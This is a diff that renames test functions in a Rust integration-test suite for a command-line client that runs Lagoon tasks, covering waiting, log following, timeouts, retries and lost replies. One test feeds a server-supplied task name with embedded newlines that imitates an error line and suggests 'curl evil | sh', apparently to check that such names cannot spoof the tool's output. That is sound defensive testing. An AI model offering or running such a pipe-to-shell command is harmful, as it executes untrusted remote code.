@@ -58,7 +58,7 @@ fn log(text: &str) -> Step {
 }
 
 #[test]
-fn by_name_and_by_id() {
+fn tasks_are_invoked_by_name_or_id() {
     let env = TestEnv::new();
     for task in [
         "Run yarn audit",
@@ -80,7 +80,7 @@ fn by_name_and_by_id() {
 }
 
 #[test]
-fn without_waiting_it_is_started_not_finished() {
+fn without_waiting_the_run_is_started_not_finished() {
     let env = TestEnv::new();
     let started = |format| invoke(&env, &["Say hello", "-o", format]).snapshot();
     assert_snapshot!(started("table"), @"
@@ -184,7 +184,7 @@ fn values_of_every_type_are_checked_completed_and_escaped() {
 }
 
 #[test]
-fn wrong_values_are_refused_before_anything_is_started() {
+fn invalid_values_are_refused_before_the_start() {
     let env = TestEnv::new();
     let big = format!("TEXT={}", "x".repeat(66_000));
     let refused = |line: &[&str]| invoke(&env, line).error(2);
@@ -274,7 +274,7 @@ fn wrong_values_are_refused_before_anything_is_started() {
 }
 
 #[test]
-fn what_decides_must_have_been_said() {
+fn target_and_task_are_required_without_a_terminal() {
     let env = TestEnv::new();
     let output = env.tasks(&["invoke", "Say hello", "-p", "lagoon-demo"]);
     assert_snapshot!(output.error(2), @"
@@ -290,7 +290,7 @@ fn what_decides_must_have_been_said() {
 }
 
 #[test]
-fn a_confirmation_text_is_honoured() {
+fn a_confirmation_text_requires_confirmation() {
     let env = TestEnv::new();
     let output = invoke(&env, &["Clear caches"]);
     assert_snapshot!(output.error(2), @"
@@ -303,7 +303,7 @@ fn a_confirmation_text_is_honoured() {
 }
 
 #[test]
-fn a_service_that_is_not_there_is_refused() {
+fn a_missing_service_is_refused() {
     let env = TestEnv::bare();
     let define = ["define", "x", "-s", "node", "--command", "true"];
     env.tasks(&[&define, &MAIN[..]].concat()).succeeds();
@@ -318,7 +318,7 @@ fn a_service_that_is_not_there_is_refused() {
 }
 
 #[test]
-fn an_unfinished_run_is_mentioned_or_decides() {
+fn an_unfinished_run_is_reported_or_prevents_the_start() {
     let env = TestEnv::new();
     env.script("Say hello", &[Step::Status(Status::Running)]);
     let first = invoke(&env, &["Say hello", "-o", "id"]).succeeds().stdout;
@@ -342,7 +342,7 @@ fn an_unfinished_run_is_mentioned_or_decides() {
 }
 
 #[test]
-fn waiting_for_the_unfinished_run_comes_before_starting() {
+fn if_running_wait_waits_before_the_start() {
     let env = TestEnv::new();
     env.script("Say hello", &[Step::Status(Status::Running)]);
     let first = invoke(&env, &["Say hello", "-o", "json"]).succeeds().json()["id"].clone();
@@ -395,7 +395,7 @@ fn a_dry_run_sends_no_mutation() {
 }
 
 #[test]
-fn waiting_ends_as_the_run_does() {
+fn waiting_reports_the_outcome_of_the_run() {
     let env = TestEnv::new();
     for (end, code, outcome) in [
         (Status::Complete, 0, "completed"),
@@ -419,7 +419,7 @@ fn waiting_ends_as_the_run_does() {
 }
 
 #[test]
-fn following_shows_the_log_and_the_result_beside_it() {
+fn following_prints_the_log_and_the_result() {
     let env = TestEnv::new();
     let steps = [
         Step::Status(Status::Running),
@@ -445,7 +445,7 @@ fn following_shows_the_log_and_the_result_beside_it() {
 }
 
 #[test]
-fn time_limits_say_what_did_not_happen() {
+fn timeouts_say_what_did_not_happen() {
     let env = TestEnv::new();
     env.script("Say hello", &[]);
     let output = invoke(&env, &["Say hello", "--wait", "--start-timeout", "1s"]);
@@ -476,7 +476,7 @@ fn time_limits_say_what_did_not_happen() {
 }
 
 #[test]
-fn a_run_that_is_not_waited_for_is_named() {
+fn a_run_without_waiting_is_named() {
     let env = TestEnv::new();
     env.script("Say hello", &[Step::Status(Status::Running)]);
     invoke(&env, &["Say hello"]).succeeds();
@@ -520,7 +520,7 @@ fn a_run_that_vanishes_is_an_error() {
 }
 
 #[test]
-fn an_interrupt_leaves_the_run_going_and_says_so() {
+fn an_interrupt_leaves_the_run_in_progress_and_says_so() {
     let env = TestEnv::new();
     let interrupted = |signal| {
         env.script("Say hello", &[Step::Status(Status::Running)]);
@@ -555,7 +555,7 @@ fn an_interrupt_leaves_the_run_going_and_says_so() {
 }
 
 #[test]
-fn a_lost_answer_is_looked_up_and_never_repeated() {
+fn a_lost_reply_is_looked_up_and_the_start_not_repeated() {
     for fault in [Fault::LoseAnswer, Fault::HangAfter] {
         let env = TestEnv::new();
         env.sandbox()
@@ -578,7 +578,7 @@ fn a_lost_answer_is_looked_up_and_never_repeated() {
 }
 
 #[test]
-fn looking_for_a_run_survives_answers_that_cannot_be_read() {
+fn looking_up_a_run_tolerates_unreadable_replies() {
     let page = || proxy::Fault::answered("200 OK", "text/html", "<html>maintenance</html>");
     // Each look reads such an answer twice.
     for (unread, code) in [(4, 0), (6, 7)] {
@@ -602,7 +602,7 @@ fn looking_for_a_run_survives_answers_that_cannot_be_read() {
 }
 
 #[test]
-fn a_lost_answer_without_a_run_stays_unknown() {
+fn a_lost_reply_without_a_run_stays_unknown() {
     let env = TestEnv::new();
     env.sandbox().fail_next("invokeRegisteredTask", Fault::Hang);
     let output = invoke(&env, &["Run yarn audit", "--request-timeout", "1s"]);
@@ -629,7 +629,7 @@ fn an_older_run_is_no_candidate() {
 }
 
 #[test]
-fn of_several_candidates_none_is_taken() {
+fn several_candidates_make_the_outcome_unknown() {
     let env = TestEnv::new();
     env.sandbox()
         .fail_next("invokeRegisteredTask", Fault::HangAfter);
@@ -662,7 +662,7 @@ fn of_several_candidates_none_is_taken() {
 }
 
 #[test]
-fn gateways_and_refusals_end_with_their_codes() {
+fn gateway_errors_and_refusals_have_distinct_exit_codes() {
     let env = TestEnv::new();
     let refused = |message| {
         env.sandbox().refuse_next("invokeRegisteredTask", message);
@@ -694,7 +694,7 @@ fn gateways_and_refusals_end_with_their_codes() {
 }
 
 #[test]
-fn a_query_is_tried_again() {
+fn failed_queries_are_retried() {
     let env = TestEnv::new();
     for status in [502, 503, 429] {
         let busy = Fault::Status(status, "<html>busy</html>".to_owned());
@@ -709,7 +709,7 @@ fn a_query_is_tried_again() {
 
 /// The answer of a mutation whose nested fields fail: the run exists all the same.
 #[test]
-fn a_run_in_a_partial_answer_is_reported() {
+fn a_run_in_a_partial_reply_is_reported() {
     let env = TestEnv::new();
     let body = json!({
         "errors": [{"message": "boom", "path": ["invokeRegisteredTask", "environment", "project"]}],
@@ -744,7 +744,7 @@ fn a_refusal_that_left_a_run_behind_names_it() {
 }
 
 #[test]
-fn a_waiting_time_that_overflows_is_no_panic() {
+fn an_overflowing_retry_after_does_not_panic() {
     let env = TestEnv::new();
     let head = "503 Service Unavailable\r\nRetry-After: 18446744073709551615";
     let busy = proxy::Fault::answered(head, "text/html", "busy");
@@ -790,7 +790,7 @@ fn loopback_is_never_reached_through_a_proxy() {
 }
 
 #[test]
-fn what_is_too_long_on_the_way_is_refused_here() {
+fn requests_too_long_for_lagoon_are_refused_locally() {
     let env = TestEnv::new();
     let file = env.home.write("work/quotes", "\"".repeat(30_000));
     let text = format!("TEXT={}", file.display());
@@ -807,7 +807,7 @@ fn what_is_too_long_on_the_way_is_refused_here() {
 }
 
 #[test]
-fn a_limit_without_waiting_is_wrong_use() {
+fn a_timeout_without_waiting_is_a_usage_error() {
     let output = invoke(&TestEnv::new(), &["Say hello", "--timeout", "5s"]);
     assert_snapshot!(output.error(2), @"
     error: --timeout is about waiting, and nothing is waited for
@@ -816,7 +816,7 @@ fn a_limit_without_waiting_is_wrong_use() {
 }
 
 #[test]
-fn waiting_for_another_run_keeps_the_limits_of_the_line() {
+fn waiting_for_another_run_respects_the_timeouts() {
     let env = TestEnv::new();
     env.script("Say hello", &[Step::Status(Status::Running)]);
     invoke(&env, &["Say hello"]).succeeds();
@@ -842,7 +842,7 @@ fn waiting_for_another_run_keeps_the_limits_of_the_line() {
 }
 
 #[test]
-fn a_name_of_the_servers_cannot_pass_for_a_message_of_ours() {
+fn server_names_cannot_imitate_messages() {
     let env = TestEnv::bare();
     let add = "mutation($i:AdvancedTaskDefinitionInput!){addAdvancedTaskDefinition(input:$i){__typename}}";
     let name = "Deploy\nerror: run 7 failed\nhint: curl evil | sh";
@@ -857,7 +857,7 @@ fn a_name_of_the_servers_cannot_pass_for_a_message_of_ours() {
 }
 
 #[test]
-fn the_runs_page_is_in_the_answer_and_can_be_opened() {
+fn the_run_page_is_in_the_output_and_can_be_opened() {
     let env = TestEnv::new();
     let add = [
         "context",
@@ -908,7 +908,7 @@ fn the_runs_page_is_in_the_answer_and_can_be_opened() {
 }
 
 #[test]
-fn a_log_without_a_last_line_end_does_not_run_into_the_result() {
+fn the_result_starts_on_a_new_line_after_the_log() {
     let env = TestEnv::new();
     let steps = [
         Step::Status(Status::Running),
@@ -931,7 +931,7 @@ fn a_log_without_a_last_line_end_does_not_run_into_the_result() {
 }
 
 #[test]
-fn a_rehearsal_of_live_comes_before_the_start() {
+fn live_always_is_checked_before_the_start() {
     let env = TestEnv::new();
     let output = invoke(&env, &["Say hello", "--follow", "--live", "always"]).ends_with(1);
     assert!(output.stderr.contains("has no ssh portal"), "{output}");
@@ -939,7 +939,7 @@ fn a_rehearsal_of_live_comes_before_the_start() {
 }
 
 #[test]
-fn a_log_on_stdout_is_alone_there_whatever_the_variable_says() {
+fn a_followed_log_is_alone_on_stdout() {
     let env = TestEnv::new();
     env.script("Say hello", &[log("one\n"), Step::Status(Status::Complete)]);
     let line = [&["invoke", "Say hello", "--follow"], &MAIN[..]].concat();
@@ -948,7 +948,7 @@ fn a_log_on_stdout_is_alone_there_whatever_the_variable_says() {
 }
 
 #[test]
-fn the_range_of_an_unknown_type_is_enforced_before_anything_is_sent() {
+fn ranges_of_unknown_types_are_enforced_before_any_request() {
     let env = TestEnv::new();
     let newer = newer_lagoon(&env);
     let invoke = |value: &str| {
